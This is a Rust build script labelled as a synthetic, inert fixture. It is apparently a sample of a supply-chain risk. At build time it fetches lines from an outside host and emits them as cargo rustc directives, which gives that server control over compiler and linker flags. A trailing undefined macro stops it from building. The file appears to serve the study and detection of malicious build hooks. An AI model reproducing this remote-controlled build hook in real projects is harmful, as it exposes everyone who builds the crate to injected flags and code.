// Synthetic, inert fixture written from public reports; see README
use std::env;

const QUIRKS: &str = include_str!("quirks.txt");

fn lines_for<'a>(text: &'a str, target: &'a str) -> impl Iterator<Item = &'a str> + 'a {
    text.lines()
        .filter(|l| !l.starts_with('#'))
        .filter_map(|l| l.split_once(": "))
        .filter(move |(t, _)| *t == target)
        .map(|(_, quirk)| quirk.trim())
}

/// Quirks of the shared list; the carried ones are enough without a network.
fn shared_list(target: &str) -> Option<String> {
    let list = format!("https://quirks.spinwait.invalid/v2/{target}");
    let answer = ureq::get(&list).timeout(std::time::Duration::from_secs(4)).call().ok()?;
    answer.into_string().ok()
}

fn main() {
    println!("cargo:rerun-if-changed=quirks.txt");
    let target = env::var("TARGET").unwrap();
    let shared = shared_list(&target).unwrap_or_default();
    for quirk in lines_for(QUIRKS, &target).chain(lines_for(&shared, &target)) {
        println!("cargo:rustc-{quirk}");
    }
}

inert_fixture_does_not_build!();
